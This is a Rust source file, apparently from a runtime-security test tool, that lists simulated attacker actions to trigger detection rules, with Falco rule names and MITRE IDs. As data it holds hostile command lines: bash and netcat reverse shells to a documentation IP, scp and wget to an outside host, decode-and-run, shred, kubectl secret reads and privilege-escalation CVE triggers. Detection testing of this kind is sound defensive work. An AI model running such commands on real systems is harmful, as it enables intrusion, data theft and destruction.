//! Programs that give themselves away by name or arguments.

use super::secrets::{ONLY_NAMED, read_own};
use crate::generate::action::{ACTION, Action, Need, PROCESS, Place, Process, Setup, Start};

/// What makes our containers poses, too, and that is more than is sent of one rule in a minute
/// (`repetition.alerts_per_minute`): this comes before all others.
pub(super) const POSING: &[Action] = &[Action {
    name: "pose-as-package-manager",
    does: "runs a program called apt from where no package puts one",
    rules: &["Program poses as a trusted one"],
    mitre: "T1036.005",
    processes: &[Process { program: "apt", ..PROCESS }],
    ..ONLY_NAMED
}];

pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "shell-below-server",
        does: "has a web server start a shell",
        rules: &["Run shell untrusted"],
        falco: &["Run shell untrusted", "Web Server Spawned Shell"],
        mitre: "T1190",
        processes: &[
            Process { program: "nginx", ..PROCESS },
            Process { program: "sh", args: &["-c", "id; : <token>"], ..PROCESS },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "program-below-server",
        does: "has a web server start whoami",
        rules: &["Web server started unexpected program"],
        falco: &["Web Server Spawned Suspicious Child Process"],
        mitre: "T1505.003",
        processes: &[
            Process { program: "nginx", ..PROCESS },
            Process { program: "whoami", ..PROCESS },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "reverse-shell-below-server",
        does: "has a web server start a shell with a script that connects to /dev/tcp",
        rules: &["Run shell untrusted"],
        falco: &["Reverse Shell from Web Server", "Web Server Spawned Shell"],
        mitre: "T1505.003",
        processes: &[
            Process { program: "nginx", ..PROCESS },
            Process {
                program: "bash",
                args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
                ..PROCESS
            },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "network-tool-below-npm",
        does: "has npm start nmap in a container, as the scripts of a package may",
        rules: &["Launch Suspicious Network Tool in Container"],
        falco: &[
            "Network Tool Executed During NPM Package Install",
            "Launch Suspicious Network Tool in Container",
        ],
        mitre: "T1195.002",
        place: Place::Container,
        processes: &[
            Process { program: "npm", ..PROCESS },
            Process { program: "nmap", args: &["198.51.100.7", "<token>"], ..PROCESS },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "copy-by-kubectl",
        does: "has the container runtime start tar, as `kubectl cp` does",
        rules: &["Exfiltrating Artifacts via Kubernetes Control Plane"],
        falco: &[],
        mitre: "T1048",
        place: Place::ContainerEntry,
        processes: &[Process { program: "tar", args: &["cf", "-", "/<token>"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "read-for-kubectl-copy",
        does: "has the container runtime start tar, which reads a file of its own",
        harmless: "the file is empty and in a folder of its own",
        falco: &["Exfiltrating Artifacts via Kubernetes Control Plane"],
        mitre: "T1048",
        event: "openat",
        place: Place::ContainerEntry,
        processes: &[Process { program: "tar", ..PROCESS }],
        act: |doer| read_own(doer, "data"),
        ..ACTION
    },
    Action {
        name: "program-below-database",
        does: "has a database server start another program",
        rules: &["DB program spawned process"],
        falco: &["DB program spawned process"],
        mitre: "T1190",
        processes: &[Process { program: "postgres", ..PROCESS }, PROCESS],
        ..ONLY_NAMED
    },
    Action {
        name: "netcat-in-container",
        does: "runs nc -e in a container",
        rules: &["Netcat Remote Code Execution in Container"],
        falco: &["Netcat Remote Code Execution in Container"],
        mitre: "T1059",
        place: Place::Container,
        processes: &[Process {
            program: "nc",
            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "netcat-on-host",
        does: "runs nc -e on the host",
        rules: &["Netcat/Socat Remote Code Execution on Host"],
        falco: &[
            "Netcat/Socat Remote Code Execution on Host",
            "Launch Suspicious Network Tool on Host",
        ],
        needs: &[Need::Host],
        mitre: "T1059",
        processes: &[Process {
            program: "nc",
            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "network-tool-in-container",
        does: "runs nmap in a container",
        rules: &["Launch Suspicious Network Tool in Container"],
        falco: &["Launch Suspicious Network Tool in Container"],
        mitre: "T1046",
        place: Place::Container,
        processes: &[Process {
            program: "nmap",
            args: &["-sS", "198.51.100.0/24", "<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "reverse-shell-by-arguments",
        does: "runs a shell with a script that connects to /dev/tcp, in a container",
        rules: &["Reverse shell in container"],
        falco: &[],
        mitre: "T1059.004",
        place: Place::Container,
        processes: &[Process {
            program: "bash",
            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "reverse-shell-on-host",
        does: "runs a shell with a script that connects to /dev/tcp, on the host",
        rules: &["Reverse shell on host"],
        needs: &[Need::Host],
        mitre: "T1059.004",
        processes: &[Process {
            program: "bash",
            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "encoded-script",
        does: "runs a shell with a script that decodes another and runs that",
        rules: &["Encoded script run"],
        mitre: "T1027",
        processes: &[Process {
            program: "sh",
            args: &["-c", "echo aWQK | base64 -d | sh # <token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "debugfs-in-container",
        does: "runs debugfs in a container",
        rules: &["Debugfs Launched in Privileged Container"],
        // Its rule wants to know of the runtime that the container is privileged.
        falco: &[],
        mitre: "T1611",
        place: Place::Container,
        processes: &[Process { program: "debugfs", ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "stop-lanner",
        does: "runs pkill with what our daemons' names begin with",
        rules: &["Lanner stopped by command"],
        mitre: "T1562.001",
        processes: &[Process { program: "pkill", args: &["lanner-<token>"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "copy-files-away",
        does: "runs scp in a container",
        rules: &["Launch Remote File Copy Tools in Container"],
        falco: &["Launch Remote File Copy Tools in Container"],
        mitre: "T1020",
        place: Place::Container,
        processes: &[Process {
            program: "scp",
            args: &["-r", "/srv", "198.51.100.7:/<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "fetch-tool",
        does: "runs wget in a container",
        falco: &["Launch Ingress Remote File Copy Tools in Container"],
        mitre: "T1105",
        place: Place::Container,
        processes: &[Process {
            program: "wget",
            args: &["http://198.51.100.7/<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "install-package",
        does: "runs apk in a container",
        rules: &["Launch Package Management Process in Container"],
        falco: &["Launch Package Management Process in Container"],
        mitre: "T1505",
        place: Place::Container,
        processes: &[Process { program: "apk", args: &["add", "<token>"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "kubectl-in-container",
        does: "runs kubectl in a container",
        rules: &["Kubernetes Client Tool Launched in Container"],
        falco: &["Kubernetes Client Tool Launched in Container"],
        mitre: "T1610",
        place: Place::Container,
        processes: &[Process {
            program: "kubectl",
            args: &["get", "secrets", "<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "decode-payload",
        does: "runs base64 -d in a container",
        falco: &["Decoding Payload in Container"],
        mitre: "T1132",
        place: Place::Container,
        processes: &[Process { program: "base64", args: &["-d", "<token>"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "miner-by-arguments",
        does: "runs a program with the address of a mining pool",
        rules: &["Crypto miner started"],
        falco: &["Detect crypto miners using the Stratum protocol"],
        mitre: "T1496",
        processes: &[Process {
            program: "kworker",
            args: &["-o", "stratum+tcp://pool.invalid:3333", "-u", "<token>"],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "miner-by-name",
        does: "runs xmrig",
        rules: &["Crypto miner started"],
        falco: &["Known Cryptominer Process Executed"],
        mitre: "T1496",
        processes: &[Process { program: "xmrig", ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "destroy-data",
        does: "runs shred",
        rules: &["Remove Bulk Data from Disk"],
        falco: &["Remove Bulk Data from Disk"],
        mitre: "T1485",
        processes: &[Process { program: "shred", args: &["-u", "/<token>"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "look-around-by-hand",
        does: "runs whoami at a terminal",
        falco: &["Basic Interactive Reconnaissance"],
        mitre: "T1033",
        processes: &[
            Process { program: "intruder", setup: Setup::OpenTerminal, ..PROCESS },
            Process { program: "whoami", start: Start::Exec, ..PROCESS },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "system-user-interactive",
        does: "has sshd start a program as the user nobody",
        rules: &["System user interactive"],
        falco: &["System user interactive"],
        mitre: "T1059",
        needs: &[Need::Root, Need::Nobody],
        processes: &[Process { program: "sshd", setup: Setup::BecomeNobody, ..PROCESS }, PROCESS],
        ..ONLY_NAMED
    },
    Action {
        name: "sudo-overflow",
        does: "runs sudoedit with the arguments of CVE-2021-3156",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Sudo Potential Privilege Escalation"],
        mitre: "T1548.003",
        processes: &[Process { program: "sudoedit", args: &["-s", "<token>", "\\"], ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "pkexec-without-arguments",
        does: "runs pkexec as CVE-2021-4034 does",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
        mitre: "T1548",
        processes: &[Process { program: "pkexec", marked: false, ..PROCESS }],
        ..ONLY_NAMED
    },
    Action {
        name: "misuse-loader-environment",
        does: "runs a program with GLIBC_TUNABLES in its environment",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
        mitre: "T1574.006",
        processes: &[Process {
            env: &[("GLIBC_TUNABLES", "glibc.malloc.mxfast=glibc.malloc.mxfast=1")],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "proxy-environment",
        does: "runs curl with HTTP_PROXY in its environment",
        falco: &["Program run with disallowed http proxy env"],
        mitre: "T1204",
        processes: &[Process {
            program: "curl",
            env: &[("HTTP_PROXY", "http://198.51.100.7:3128")],
            ..PROCESS
        }],
        ..ONLY_NAMED
    },
];
